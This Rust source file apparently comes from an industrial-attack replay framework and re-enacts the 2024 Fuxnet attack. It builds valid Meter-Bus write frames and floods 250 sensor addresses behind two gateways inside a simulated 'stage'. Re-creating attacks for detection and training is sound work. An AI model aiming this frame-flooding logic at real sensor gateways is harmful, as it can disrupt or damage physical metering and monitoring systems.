//! Fuxnet: the sensors' bus flooded through its gateways.
//!
//! Source: MITRE ATT&CK S1157, Moscow, April 2024; Claroty Team82: Meter-Bus frames in great number to the sensors behind each
//! gateway (T0806, T0814). EN 13757-2 §5 for the frames: 68 L L 68, control, address, information, checksum, 16; a
//! gateway of the bus over TCP carries them as they are, and there is no decoder for it here.

use crate::speech::socket;
use crate::stage::Playbook;

/// `SND_UD` to one address with random user data.
fn frame(address: u8, data: &[u8]) -> Vec<u8> {
    let mut body = vec![0x53, address, 0x51];
    body.extend_from_slice(data);
    let length = body.len() as u8;
    let sum = body.iter().fold(0_u8, |sum, byte| sum.wrapping_add(*byte));
    let mut frame = vec![0x68, length, length, 0x68];
    frame.extend_from_slice(&body);
    frame.extend_from_slice(&[sum, 0x16]);
    frame
}

pub(crate) const PLAYBOOK: Playbook = Playbook {
    name: "fuxnet",
    incident: "Moscow, April 2024 (S1157)",
    story: "the sensor bus behind two gateways is flooded with writes to every address",
    techniques: &["T0806", "T0814", "T0815", "T0826"],
    families: &[],
    script: |stage| {
        for gateway in 1..=2_u8 {
            let mut link =
                stage.connect(socket(66, 50_900 + u16::from(gateway)), socket(80 + gateway, 4_001));
            for turn in 0..500_u32 {
                let address = (turn % 250) as u8 + 1;
                let data: Vec<u8> = (0..12).map(|byte| (turn.wrapping_mul(31) >> byte) as u8).collect();
                stage.ask(&mut link, &frame(address, &data))?;
            }
            stage.close(link);
        }
        Ok(())
    },
};

#[cfg(test)]
mod tests {
    #[test]
    fn frames_are_framed() {
        assert_eq!(super::frame(1, &[2]), [0x68, 4, 4, 0x68, 0x53, 1, 0x51, 2, 0xa7, 0x16]);
    }
}
